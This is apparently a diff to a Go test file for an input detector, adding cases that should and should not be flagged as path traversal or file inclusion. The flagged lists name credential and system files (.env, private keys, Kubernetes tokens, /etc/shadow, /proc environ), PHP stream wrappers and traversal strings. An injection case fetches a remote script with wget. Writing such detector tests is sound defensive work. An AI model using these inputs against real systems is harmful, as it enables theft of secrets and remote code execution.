@@ -32,10 +32,16 @@ var checkCases = []struct {
 		"php://filter/convert.base64-encode/resource=index.php", "expect://id", "phar://uploads/a.jpg/x",
 		`C:\Windows\win.ini`, "/proc/self/environ", ".htpasswd", "cmd=cat /etc/passwd", "....//....//etc/shadow",
 		"/var/www/.git/config",
+		"../.env", `..\web.config`, "/proc/thread-self/environ", "/proc/1/environ", "/proc/4242/cmdline", "/proc/12/maps", "/proc/1/fd/3",
+		"/app/.env", "/var/www/html/.env", "/etc/ssl/private/server.key", "/run/secrets/db_password",
+		"/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/admin.conf", "C:/Windows/Panther/Unattend.xml",
+		"file=..%2f.env", `..\appsettings.json`,
 	}, []string{
 		"/etc/passwords-are-hard", "The /etc directory", "etcetera/passwd", "my passwd is secret",
 		"https://example.com/shadow/group", "proc/selfie", "id_rsa.pub", "data:image/png;base64,iVBORw0KGgo=",
 		"zip code 12345", "etc. and so on", "/api/v1/process/self-test",
+		"see the .env.example file", "/var/log/app.log", "../lib/util.js", ".env", "copy .env to the server", "/docs/web.config",
+		"/app/.envrc", "/proc/12/status", "proc/1", "/run/scripts/start.sh", "../web.config.sample", "https://example.com/run/secretsanta",
 	}, false},
 	{KindCmdInjection, []string{
 		";wget http://some_host/sh311.sh", "|getent+hosts+somehost.example.net.&", ";getent$IFS$9hosts",
